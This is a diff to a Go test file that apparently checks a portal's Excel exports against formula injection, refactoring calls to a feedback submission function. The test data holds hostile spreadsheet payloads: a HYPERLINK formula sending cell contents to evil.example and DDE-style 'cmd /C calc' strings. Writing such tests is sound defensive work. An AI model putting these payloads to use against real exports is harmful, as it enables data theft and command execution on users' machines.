@@ -12,8 +12,8 @@ import (
 	"github.com/pocketbase/pocketbase/core"
 	"github.com/xuri/excelize/v2"
 
-	"github.com/daison/portal/admin"
 	"github.com/daison/portal/admin/admintest"
+	"github.com/daison/portal/admin/feedback"
 	"github.com/daison/portal/internal/schema"
 )
 
@@ -28,11 +28,11 @@ func TestHostile05FormulaInjectionInExports(t *testing.T) {
 	topic := `=HYPERLINK("http://evil.example/?d="&A1,"Bấm để xem")`
 	message := "+cmd|' /C calc'!A0 – đề xuất đủ dài"
 	service := "@SUM(1+1)*cmd|' /C calc'!A0"
-	rec, err := admin.SubmitFeedback(w.app, admin.FeedbackInput{Kind: "sang-kien", Topic: topic, Message: message}, "203.0.113.7")
+	rec, err := feedback.Submit(w.app, feedback.Input{Kind: "sang-kien", Topic: topic, Message: message}, "203.0.113.7")
 	if err != nil {
 		t.Fatal(err)
 	}
-	if _, err := admin.SubmitFeedback(w.app, admin.FeedbackInput{Kind: "hai-long", Rating: "2", Service: service}, "203.0.113.8"); err != nil {
+	if _, err := feedback.Submit(w.app, feedback.Input{Kind: "hai-long", Rating: "2", Service: service}, "203.0.113.8"); err != nil {
 		t.Fatal(err)
 	}
 
